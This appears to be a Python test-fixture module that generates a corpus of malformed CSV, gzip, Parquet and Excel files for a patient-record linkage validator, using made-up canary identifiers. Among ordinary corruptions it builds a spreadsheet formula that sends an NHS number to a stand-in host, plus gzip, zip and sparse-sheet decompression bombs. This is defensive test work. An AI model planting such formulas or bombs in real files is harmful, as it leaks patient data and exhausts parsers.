"""Bad files, each made by a small function and carrying canary values that no message may repeat."""

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta

import openpyxl  # type: ignore[import-untyped]
import pyarrow as pa
import pyarrow.parquet as pq

from linkage.reasons import FileReason as F

NHS = "9990000018"
CANARIES = (
    NHS,
    "Canaryname",
    "Birdcage",
    "1 Yellow Perch",
    "CF10 3NQ",
    "1987-06-05",
    "05/06/1987",
    "19870605",
    "C-77123",
)
HEADER = ("id", "nhs", "given", "family", "dob", "address", "postcode")
GOOD = ("C-77123", NHS, "Canaryname", "Birdcage", "1987-06-05", "1 Yellow Perch", "CF10 3NQ")

SPEC = """
dataset: birds
provider: ZZZ
record_id: id
identifiers: {nhs_number: nhs, given_name: given, family_name: family, date_of_birth: dob, address: address,
  postcode: postcode}
"""


def rows(count: int = 30) -> list[tuple[str, ...]]:
    return [(f"{GOOD[0]}{n}", *GOOD[1:]) for n in range(count)]


def text(delimiter: str = ",", end: str = "\n", count: int = 30, header: tuple[str, ...] = HEADER) -> str:
    return "".join(delimiter.join(row) + end for row in (header, *rows(count)))


def lines(count: int = 30) -> list[str]:
    return text(count=count).splitlines(keepends=True)


def packed(content: bytes) -> bytes:
    return gzip.compress(content)


def workbook(fill: Callable[[openpyxl.Workbook], None] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Extract"
    for row in (HEADER, *rows()):
        sheet.append(row)
    if fill:
        fill(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def formula(book: openpyxl.Workbook) -> None:
    book["Extract"]["C5"] = '=HYPERLINK("http://canary.invalid/?q="&B5,"Canaryname")'


def duplicate_column(book: openpyxl.Workbook) -> None:
    book["Extract"]["H1"] = "nhs"


def corners() -> bytes:
    """A sheet of two cells at opposite corners: 550 GB to a parser that makes it dense."""
    source, out = zipfile.ZipFile(io.BytesIO(workbook())), io.BytesIO()
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            target.writestr(part, sheet if part == "xl/worksheets/sheet1.xml" else source.read(part))
    return out.getvalue()


def with_part(name: str, content: bytes) -> bytes:
    """The sound workbook with one part put in or put in place of its own."""
    source, out = zipfile.ZipFile(io.BytesIO(workbook())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.namelist():
            if part != name:
                target.writestr(part, source.read(part))
        target.writestr(name, content)
    return out.getvalue()


def encrypted_zip() -> bytes:
    """The sound workbook with the 'encrypted' flag set on every entry of its directory."""
    raw = bytearray(workbook())
    place = raw.find(b"PK\x01\x02")
    while place >= 0:
        flags = struct.unpack_from("<H", raw, place + 8)[0]
        struct.pack_into("<H", raw, place + 8, flags | 1)
        place = raw.find(b"PK\x01\x02", place + 4)
    return bytes(raw)


def zip_of(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr(name, content)
    return out.getvalue()


def ole(marker: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + marker.encode("utf-16-le") + b"\x00" * 600


def parquet(columns: dict[str, pa.Array] | None = None, names: tuple[str, ...] = HEADER) -> bytes:
    table = {name: pa.array([row[n] for row in rows()]) for n, name in enumerate(HEADER) if name in names}
    out = io.BytesIO()
    pq.write_table(pa.table(table | (columns or {})), out)
    return out.getvalue()


def flipped(content: bytes) -> bytes:
    middle = len(content) // 3
    return content[:middle] + bytes(byte ^ 0xFF for byte in content[middle : middle + 200]) + content[middle + 200 :]


def with_line(line: str, place: int = 7) -> bytes:
    held = lines()
    held.insert(place, line)
    return "".join(held).encode()


RECORD = ",".join(GOOD)


@dataclass(frozen=True)
class BadFile:
    name: str
    content: bytes
    code: F
    spec: str = SPEC
    row: int | None = None
    column: str | None = None


def spec(**changes: str) -> str:
    return SPEC + "file: {" + ", ".join(f'{key}: "{value}"' for key, value in changes.items()) + "}\n"


def bad_files() -> list[BadFile]:
    """The corpus. Each entry names the file's fault, its bytes and the code it must get."""
    birthdays = pa.array([date(1987, 6, 5) + timedelta(n) for n in range(30)])
    return [
        BadFile("empty", b"", F.FILE_EMPTY),
        BadFile("only blanks", b"\r\n  \r\n\t\r\n", F.FILE_EMPTY),
        BadFile("only a byte order mark", b"\xef\xbb\xbf", F.FILE_EMPTY),
        BadFile("only a header", text(count=0).encode(), F.NO_RECORDS),
        BadFile("gzip of nothing", packed(b""), F.FILE_EMPTY),
        BadFile("wrong delimiter declared", text(";").encode(), F.WRONG_DELIMITER, spec(delimiter=",")),
        BadFile("unknown delimiter", text("~").encode(), F.WRONG_DELIMITER),
        BadFile(
            "delimiter changes below the header",
            (lines()[0] + text(";").split("\n", 1)[1]).encode(),
            F.TOO_MANY_BAD_ROWS,
        ),
        BadFile("headerless", "".join(lines()[1:]).encode(), F.HEADER_MISSING),
        BadFile("wrong spec", text(header=("a", "b", "c", "d", "e", "f", "g")).encode(), F.HEADER_MISSING),
        BadFile("header row declared too low", text().encode(), F.HEADER_MISSING, spec(header_row="3")),
        BadFile("column missing", text(header=(*HEADER[:6], "zip")).encode(), F.COLUMN_MISSING, column="postcode"),
        BadFile("column in other capitals", text(header=("ID", *HEADER[1:])).encode(), F.COLUMN_MISSING, column="id"),
        BadFile(
            "column twice", text(header=(*HEADER[:5], "nhs", "postcode")).encode(), F.COLUMN_DUPLICATE, column="nhs"
        ),
        BadFile("unneeded column twice", text(header=(*HEADER, "note", "note")).encode(), F.COLUMN_DUPLICATE),
        BadFile("header's quote never closes", b'"' + text().encode(), F.HEADER_UNREADABLE),
        BadFile("NUL bytes", text().replace("Birdcage", "Bird\0cage").encode(), F.NUL_BYTES),
        BadFile("binary junk", bytes(range(256)) * 64, F.NUL_BYTES),
        BadFile("mixed CRLF and LF", (text(end="\r\n") + text(count=5)).encode(), F.MIXED_LINE_ENDS, row=32),
        BadFile("mixed CR and LF", (text(end="\n") + text(end="\r", count=5)).encode(), F.MIXED_LINE_ENDS, row=32),
        BadFile(
            "a stray line feed within a row", text(end="\r\n").replace("Yellow", "Yel\nlow").encode(), F.MIXED_LINE_ENDS
        ),
        BadFile("quote opens and never closes", with_line(f'C-1,"{NHS},Canaryname,x\n'), F.RUNAWAY_QUOTE, row=8),
        BadFile(
            "quote on the last line never closes", text().encode() + b'C-1,"Canaryname,x\n', F.RUNAWAY_QUOTE, row=32
        ),
        BadFile(
            "quote swallows rows until another closes it",
            "".join([*lines()[:5], f'"{RECORD}\n', *lines()[5:9], f'{RECORD}"\n', *lines()[9:]]).encode(),
            F.RUNAWAY_QUOTE,
            row=6,
        ),
        BadFile(
            "quote in the last column swallows one row",
            with_line(f'{RECORD[: -len("CF10 3NQ")]}"CF10 3NQ\n{RECORD}"\n'),
            F.RUNAWAY_QUOTE,
            row=8,
        ),
        BadFile(
            "most rows ragged",
            "".join([lines()[0], *("C-1,Canaryname\n" for _ in range(9))]).encode(),
            F.TOO_MANY_BAD_ROWS,
        ),
        BadFile("a tenth of rows ragged", (text(count=60) + "C-1,Canaryname\n" * 12).encode(), F.TOO_MANY_BAD_ROWS),
        BadFile("10 MB field", with_line(f"C-1,{'Canaryname' * 1_000_000},x\n"), F.LINE_TOO_LONG),
        BadFile("10 MB field without any line end", b"Canaryname" * 1_000_000, F.LINE_TOO_LONG),
        BadFile("10 MB field in UTF-16", with_line("x" * 5_000_000).decode().encode("utf-16"), F.LINE_TOO_LONG),
        BadFile("UTF-16 without byte order mark", text().encode("utf-16-le"), F.ENCODING_UNKNOWN),
        BadFile("UTF-16 cut in a character", text().encode("utf-16")[:-1], F.ENCODING_WRONG),
        BadFile("UTF-32", text().encode("utf-32"), F.ENCODING_UNKNOWN),
        BadFile("UTF-16 declared as UTF-8", text().encode("utf-16"), F.ENCODING_WRONG, spec(encoding="utf-8")),
        BadFile("UTF-8 declared as UTF-16", text().encode(), F.ENCODING_WRONG, spec(encoding="utf-16")),
        BadFile(
            "UTF-8 mark, declared Windows-1252",
            text().encode("utf-8-sig"),
            F.ENCODING_WRONG,
            spec(encoding="windows-1252"),
        ),
        BadFile(
            "Windows-1252 declared as UTF-8",
            text().replace("Birdcage", "Bird\u00e9").encode("windows-1252"),
            F.ENCODING_WRONG,
            spec(encoding="utf-8"),
        ),
        BadFile("gzip cut short", packed(text(count=500).encode())[:-12], F.GZIP_TRUNCATED),
        BadFile("gzip damaged", flipped(packed(text(count=500).encode())), F.GZIP_CORRUPT),
        BadFile("gzip followed by junk", packed(text().encode()) + b"Canaryname", F.GZIP_CORRUPT),
        BadFile("gzip bomb", packed((text(count=1) + "\n" * 40_000_000).encode()), F.EXPANDS_TOO_FAR),
        BadFile("gzip of a workbook", packed(workbook()), F.NOT_DECLARED_FORMAT),
        BadFile("bzip2", b"BZh91AY&SY" + b"Canaryname" * 20, F.COMPRESSION_UNSUPPORTED),
        BadFile("PDF", b"%PDF-1.7 Canaryname", F.UNKNOWN_FORMAT),
        BadFile("not the declared format", text().encode(), F.NOT_DECLARED_FORMAT, spec(format="parquet")),
        BadFile("Parquet cut short", parquet()[:-40], F.PARQUET_CORRUPT),
        BadFile("Parquet damaged", flipped(parquet()), F.PARQUET_CORRUPT),
        BadFile("Parquet nested", parquet({"given": pa.array([["Canaryname"]] * 30)}), F.COLUMN_NESTED, column="given"),
        BadFile("Parquet bytes", parquet({"given": pa.array([b"Canaryname"] * 30)}), F.COLUMN_TYPE, column="given"),
        BadFile("Parquet column missing", parquet({"x": birthdays}, HEADER[:-1]), F.COLUMN_MISSING, column="postcode"),
        BadFile(
            "Parquet strings not UTF-8",
            parquet({"given": pa.array([b"Canaryname\xff"] * 30).view(pa.string())}),
            F.PARQUET_CORRUPT,
        ),
        BadFile("workbook: formula cells", workbook(formula), F.FORMULA_CELLS, row=5),
        BadFile("workbook: column twice", workbook(duplicate_column), F.COLUMN_DUPLICATE, column="nhs"),
        BadFile("workbook: two cells at opposite corners", corners(), F.WORKBOOK_TOO_LARGE),
        BadFile("workbook: sheet missing", workbook(), F.SHEET_MISSING, spec(sheet="Other")),
        BadFile("workbook: with a password", ole("EncryptedPackage"), F.WORKBOOK_ENCRYPTED),
        BadFile("workbook: zip with a password", encrypted_zip(), F.WORKBOOK_ENCRYPTED),
        BadFile("workbook: old XLS", ole("Workbook"), F.WORKBOOK_OLD),
        BadFile("workbook: cut short", workbook()[:-60], F.WORKBOOK_CORRUPT),
        BadFile("workbook: sheet is no XML", with_part("xl/worksheets/sheet1.xml", b"Canaryname<"), F.WORKBOOK_CORRUPT),
        BadFile("workbook: zip bomb", with_part("xl/media/a.bin", b"\0" * 60_000_000), F.EXPANDS_TOO_FAR),
        BadFile("zip of a CSV", zip_of("Canaryname.csv", text().encode()), F.NOT_DECLARED_FORMAT),
    ]
